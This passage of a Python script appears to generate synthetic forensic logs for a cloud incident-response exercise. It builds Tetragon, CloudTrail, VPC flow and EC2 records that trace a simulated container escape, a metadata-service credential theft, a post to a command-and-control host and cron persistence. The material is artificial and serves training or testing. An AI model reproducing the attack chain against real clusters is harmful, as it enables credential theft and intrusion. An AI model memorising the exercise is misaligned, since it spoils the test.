                               "sport": sport, "dport": dport, "cookie": "18446623491029418112", "state": "TCP_SYN_SENT"}}]}, t)
    out = [tev("process_exec", {"process": sh}, ts(start, 100400000)),
           tev("process_exec", {"process": curl0, "parent": sh}, ts(start, 140400000)),
           conn(curl0, sh, p["ip"], C2, 48812, 443, ts(start, 151000000)),
           tev("process_exit", {"process": curl0, "parent": sh, "signal": "", "status": 0}, ts("09:40:16", 120000000)),
           tev("process_exec", {"process": ns, "parent": sh}, ts("09:40:16", 200400000)),
           tev("process_kprobe", {"process": ns, "parent": sh, "function_name": "__x64_sys_setns", "policy_name": "namespace-changes",
                                  "action": "KPROBE_ACTION_POST", "args": [{"int_arg": 3}, {"int_arg": 0}]}, ts("09:40:16", 205000000)),
           tev("process_exec", {"process": s2, "parent": ns}, ts("09:40:16", 209400000)),
           tev("process_exec", {"process": tok, "parent": s2}, ts("09:40:16", 300400000)),
           conn(tok, s2, NODES[k]["ip"], "169.254.169.254", 41810, 80, ts("09:40:16", 312000000)),
           tev("process_exec", {"process": cred, "parent": s2}, ts("09:40:17", 640400000)),
           tev("process_exec", {"process": post, "parent": s2}, ts("09:40:17", 641400000)),
           conn(post, s2, NODES[k]["ip"], C2, 50214, 443, ts("09:40:17", 702000000)),
           tev("process_kprobe", {"process": s2, "parent": ns, "function_name": "security_file_permission", "policy_name": "file-write-etc",
                                  "action": "KPROBE_ACTION_POST", "args": [{"file_arg": {"path": "/etc/cron.d/npd-health",
                                                                                          "permission": "-rw-r--r--"}}, {"int_arg": 2}],
                                  "return": {"int_arg": 0}}, ts("09:40:18", 902000000))]
    out.sort(key=lambda e: e["time"])
    return jl(out)


# ------------------------------------------------------------------------------------------------------ CloudTrail
def cloudtrail():
    ct = CloudTrailLog(_files, REGION, "1.11", "da7ec%03d-7a2b-4c3d-8e4f-%012d", "da7ee%03d-1c2d-4e3f-9a4b-%012d")
    def rec(acct, t, identity, source, name, ip, ua, req, resp, ro=False, extra=None, category="Management"):
        return ct.record(acct, t, identity, source, name, ip, ua, req, resp, category, ro, extra)
    def node_session(k):
        acct, role_name, role = (ACCT_A, ROLE_A_NAME, ROLE_A) if k.startswith("a") else (ACCT_B, ROLE_B_NAME, ROLE_B)
        inst = NODES[k]["inst"]
        pid = "AROAV4ATLASNODEROLE1" if k.startswith("a") else "AROAW7ATLASDRNODE001"
        return {"type": "AssumedRole", "principalId": pid + ":" + inst, "arn": node_session_arn(acct, role_name, inst), "accountId": acct,
                "accessKeyId": NODE_KEYS[k],
                "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": pid, "arn": role, "accountId": acct, "userName": role_name},
                                   "attributes": {"creationDate": DAY + "T09:02:11Z", "mfaAuthenticated": "false"}, "ec2RoleDelivery": "2.0"}}
    ecr_provider = "ecr-credential-provider/v1.31.0 aws-sdk-go-v2/1.32.4 os/linux lang/go#1.22.9 md/GOOS#linux md/GOARCH#amd64 api/ecr#1.36.5"
    cni_ua = "aws-sdk-go/1.55.5 (go1.22.9; linux; amd64) amazon-vpc-cni-k8s/v1.19.2-eksbuild.1"
    atk = "aws-cli/2.22.9 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython md/installer#exe md/distrib#kali.2024 md/prompt#off md/command#"
    a, b = [], []
    # the nodes' own calls: the CNI's address management after its restart, the kubelet's ECR credential provider
    for i, k in enumerate(("a1", "a2", "a3")):
        a.append(rec(ACCT_A, hms("09:00:21", 30 * i), node_session(k), "ec2.amazonaws.com", "DescribeNetworkInterfaces", NODES[k]["ip"], cni_ua,
                     {"filterSet": {"items": [{"name": "attachment.instance-id", "valueSet": {"items": [{"value": NODES[k]["inst"]}]}}]}},
                     None, ro=True))
        a.append(rec(ACCT_A, hms("09:05:40", 11 * i), node_session(k), "ecr.amazonaws.com", "GetAuthorizationToken", NODES[k]["ip"],
                     ecr_provider, {"registryIds": [ACCT_A]}, None, ro=True))
    for i, k in enumerate(("b1", "b2")):
        b.append(rec(ACCT_B, hms("09:20:03", 40 * i), node_session(k), "ecr.amazonaws.com", "GetAuthorizationToken", NODES[k]["ip"],
                     ecr_provider, {"registryIds": [ACCT_B]}, None, ro=True))
    # B's ETL pods (IRSA) read their input through the S3 gateway endpoint from their own addresses: A's DaemonSet pods'
    # addresses, at the same minutes
    for i, p in enumerate(ETL):
        sess = "botocore-session-17955%05d" % (1200 + i)
        ident = {"type": "AssumedRole", "principalId": "AROAW7ETLIRSA0000001:" + sess,
                 "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT_B, ETL_ROLE_NAME, sess), "accountId": ACCT_B,
                 "accessKeyId": "ASIAW7ETLIRSA000%04d" % (i + 1),
                 "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAW7ETLIRSA0000001", "arn": ETL_ROLE,
                                                      "accountId": ACCT_B, "userName": ETL_ROLE_NAME},
                                    "webIdFederationData": {"federatedProvider": "arn:aws:iam::%s:oidc-provider/oidc.eks.%s.amazonaws.com/id/0B60ATLASDR00000000000000000000D1" % (ACCT_B, REGION),
                                                            "attributes": {}},
                                    "attributes": {"creationDate": DAY + "T09:20:30Z", "mfaAuthenticated": "false"}}}
        b.append(rec(ACCT_B, hms("09:41:10", 25 * i), ident, "s3.amazonaws.com", "GetObject", p["ip"],
                     "Boto3/1.35.60 md/Botocore#1.35.60 ua/2.0 os/linux#6.1.115 md/arch#x86_64 lang/python#3.12.7 cfg/retry-mode#legacy Botocore/1.35.60",
                     {"bucketName": "atlas-dr-etl-input", "Host": "atlas-dr-etl-input.s3.%s.amazonaws.com" % REGION,
                      "key": "batches/2026-11-24/part-%04d.parquet" % (31 + i)}, None, ro=True, category="Data",
                     extra={"vpcEndpointId": "vpce-0b60a1b2c3d4e5f60", "resources": [
                         {"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::atlas-dr-etl-input/batches/2026-11-24/part-%04d.parquet" % (31 + i)},
                         {"accountId": ACCT_B, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::atlas-dr-etl-input"}]}))
    # the node role's credentials, read from IMDS on each node at 09:40, used from outside
    x, y = AWS_ATTACKERS
    a += [rec(ACCT_A, "09:43:02", node_session("a1"), "sts.amazonaws.com", "GetCallerIdentity", x, atk + "sts.get-caller-identity", None, None, ro=True),
          rec(ACCT_A, "09:43:31", node_session("a1"), "ec2.amazonaws.com", "DescribeInstances", x, atk + "ec2.describe-instances",
              {"instancesSet": {}, "filterSet": {}}, None, ro=True),
          rec(ACCT_A, "09:45:12", node_session("a2"), "ecr.amazonaws.com", "GetAuthorizationToken", y, atk + "ecr.get-login-password",
              {"registryIds": [ACCT_A]}, None, ro=True),
          rec(ACCT_A, "09:46:40", node_session("a3"), "s3.amazonaws.com", "ListBuckets", y, "[" + atk + "s3.ls]",
              {"Host": "s3.%s.amazonaws.com" % REGION}, None, ro=True),
          rec(ACCT_A, "09:47:05", node_session("a3"), "sts.amazonaws.com", "GetCallerIdentity", y, atk + "sts.get-caller-identity", None, None, ro=True)]
    doc = lambda records: json.dumps({"Records": sorted(records, key=lambda r: r["eventTime"])}, separators=(",", ":"))
    return doc(a), doc(b)


# ------------------------------------------------------------------------- VPC Flow Logs (v5 custom, non-default order)
FLOW_FIELDS = ("version account-id vpc-id subnet-id instance-id interface-id flow-direction traffic-path srcaddr pkt-srcaddr "
               "dstaddr pkt-dstaddr srcport dstport protocol type packets bytes tcp-flags start end action log-status")


def flow(acct, vpc, k, src, dst, sp, dp, pk, by, start, direction, path="-"):
    nd = NODES[k]
    s = int(epoch(start))
    return "5 %s %s %s %s %s %s %s %s %s %s %s %d %d 6 IPv4 %d %d 19 %d %d ACCEPT OK" % (
        acct, vpc, nd["subnet"], nd["inst"], nd["eni"], direction, path, src, src, dst, dst, sp, dp, pk, by, s, s + 59)


def flows_a():
    # the DaemonSet pods fetch the stage-2 script from their own addresses (external SNAT: the NAT gateway); the escaped
    # shells post the credentials from the host's network namespace (the node's address, which aws-node's pod also holds)
    f = lambda *a, **kw: flow(ACCT_A, VPC_A, *a, **kw)
    rows = [FLOW_FIELDS]
    # (a record's start is its first packet in the capture window: the fetch at the container's start, the post 2 s later)
    for i, p in enumerate(EVIL):
        start = hms("09:40:15", i)
        rows.append(f(p["node"], p["ip"], C2, 48812 + i, 443, 9, 4211, start, "egress", "8"))
        rows.append(f(p["node"], NODES[p["node"]]["ip"], C2, 50214 + i, 443, 7, 2870, hms(start, 2), "egress", "8"))
    rows.append(f("a1", WEB["ip"], "10.60.40.21", 53120, 5432, 40, 12011, "09:40:00", "egress", "1"))
    return "\n".join(rows) + "\n"


def flows_b():
    f = lambda *a, **kw: flow(ACCT_B, VPC_B, *a, **kw)
    rows = [FLOW_FIELDS]
    for i, p in enumerate(ETL):
        rows.append(f(p["node"], p["ip"], "10.60.40.15", 44310 + i, 5432, 310, 1822331, "09:40:00", "egress", "1"))
    return "\n".join(rows) + "\n"


# ------------------------------------------------------------------------------------- EC2 describe-instances (both)
def ec2(acct, vpc, keys, role_name, cluster):
    def inst(k):
        nd = NODES[k]
        ni = {"Attachment": {"AttachTime": DAY + "T06:58:12+00:00", "AttachmentId": "eni-attach-" + nd["eni"][4:], "DeleteOnTermination": True,
                             "DeviceIndex": 0, "Status": "attached", "NetworkCardIndex": 0},
              "Description": "", "Groups": [{"GroupName": "eks-cluster-sg-" + cluster, "GroupId": "sg-0%s60c0de00ff" % acct[:4]}],
              "Ipv6Addresses": [], "MacAddress": "0a:60:%s:%s:%s:%s" % (nd["eni"][-8:-6], nd["eni"][-6:-4], nd["eni"][-4:-2], nd["eni"][-2:]),
              "NetworkInterfaceId": nd["eni"], "OwnerId": acct, "PrivateDnsName": nd["name"], "PrivateIpAddress": nd["ip"],
              "PrivateIpAddresses": [{"Primary": True, "PrivateDnsName": nd["name"], "PrivateIpAddress": nd["ip"]}],
              "SourceDestCheck": True, "Status": "in-use", "SubnetId": nd["subnet"], "VpcId": vpc, "InterfaceType": "interface"}
        return {"AmiLaunchIndex": 0, "ImageId": "ami-0a60b1c2d3e4f5061", "InstanceId": nd["inst"], "InstanceType": "m6i.xlarge",
                "LaunchTime": DAY + "T06:58:12+00:00", "Placement": {"AvailabilityZone": nd["zone"], "GroupName": "", "Tenancy": "default"},
                "PrivateDnsName": nd["name"], "PrivateIpAddress": nd["ip"], "ProductCodes": [], "PublicDnsName": "",
                "State": {"Code": 16, "Name": "running"}, "SubnetId": nd["subnet"], "VpcId": vpc, "Architecture": "x86_64",
                "IamInstanceProfile": {"Arn": "arn:aws:iam::%s:instance-profile/eks-%s" % (acct, role_name), "Id": "AIPA" + acct + "NODEPROF"},
                "NetworkInterfaces": [ni], "RootDeviceName": "/dev/xvda", "RootDeviceType": "ebs",
                "Tags": [{"Key": "Name", "Value": cluster + "-general"}, {"Key": "eks:cluster-name", "Value": cluster},
                         {"Key": "kubernetes.io/cluster/" + cluster, "Value": "owned"}, {"Key": "eks:nodegroup-name", "Value": "general"}]}
    return json.dumps({"Reservations": [{"Groups": [], "Instances": [inst(k)], "OwnerId": acct,
                                         "ReservationId": "r-0%s%s" % (acct[:6], NODES[k]["inst"][-10:])} for k in keys]}, indent=4) + "\n"


# ------------------------------------------------------------------------------------------------------------ main
def main():
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    write("strata-context.yaml", "\n".join([
        "# what the responders collected, and where from (the collector's context manifest): cluster atlas-prod in account",
        "# %s and its disaster-recovery twin atlas-dr in account %s, whose VPC uses the same 10.60.0.0/16" % (ACCT_A, ACCT_B),
        "- path: cluster-a", "  cluster: " + CLUSTER_A, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT_A, "  cloud_region: " + REGION,
        "- path: cluster-b", "  cluster: " + CLUSTER_B, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT_B, "  cloud_region: " + REGION,
        *sum([["- path: cluster-a/falco/" + NODES[k]["short"], "  host: " + NODES[k]["name"], "  cloud_instance: " + NODES[k]["inst"]]
              for k in ("a1", "a2", "a3")], []),
        "- path: cluster-a/tetragon/" + NODES["a1"]["short"], "  host: " + NODES["a1"]["name"], "  cloud_instance: " + NODES["a1"]["inst"],
        "- path: inventory/" + ACCT_A, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT_A, "  cloud_region: " + REGION,
        "- path: inventory/" + ACCT_B, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT_B, "  cloud_region: " + REGION, ""]))
    write("cluster-a/control-plane/filter-log-events-kube-apiserver-audit.json",
          filter_log_events(audit_a(), "kube-apiserver-audit-a60f1e2d3c4b5a69788796a5b4c3d2e1"))
    write("cluster-b/control-plane/cwl-export/7b60e1d2-c3b4-4a59-8687-96a5b4c3d2e1/kube-apiserver-audit-b60e2f3a4b5c6d7e8f90a1b2c3d4e5f6/000000.gz",
          cwl_export(audit_b()), gz=True)
    write("cluster-a/kubectl/get-pods-A-o-wide.json", json.dumps(pods_a(), indent=4) + "\n")
    write("cluster-b/kubectl/get-pods-A-o-wide.json", json.dumps(pods_b(), indent=4) + "\n")
    write("cluster-a/kubectl/get-events-A.json", json.dumps(events_a(), indent=4) + "\n")
    for k in ("a1", "a2", "a3"):
        write("cluster-a/falco/%s/falco-events.json" % NODES[k]["short"], falco(k))
    write("cluster-a/tetragon/%s/tetragon.log" % NODES["a1"]["short"], tetragon_a1())
    ct_a, ct_b = cloudtrail()
    for acct, doc, rnd in ((ACCT_A, ct_a, "Dm5Xq2Lk8Rt1Vw4Y"), (ACCT_B, ct_b, "Hp7Zc3Nf9Bs6Jg2K")):
        write("AWSLogs/%s/%s/CloudTrail/%s/2026/11/24/%s_CloudTrail_%s_20261124T1000Z_%s.json.gz" % (ORG, acct, REGION, acct, REGION, rnd),
              doc, gz=True)
    write("AWSLogs/%s/vpcflowlogs/%s/2026/11/24/%s_vpcflowlogs_%s_fl-0a60f10c0de00a001_20261124T0945Z_5e1a7c3b.log.gz"
          % (ACCT_A, REGION, ACCT_A, REGION), flows_a(), gz=True)
    write("AWSLogs/%s/vpcflowlogs/%s/2026/11/24/%s_vpcflowlogs_%s_fl-0b60f10c0de00b001_20261124T0945Z_9c2d4e6f.log.gz"
          % (ACCT_B, REGION, ACCT_B, REGION), flows_b(), gz=True)
    write("inventory/%s/ec2-describe-instances.json" % ACCT_A, ec2(ACCT_A, VPC_A, ("a1", "a2", "a3"), ROLE_A_NAME, CLUSTER_A))
    write("inventory/%s/ec2-describe-instances.json" % ACCT_B, ec2(ACCT_B, VPC_B, ("b1", "b2"), ROLE_B_NAME, CLUSTER_B))


if __name__ == "__main__":
    main()
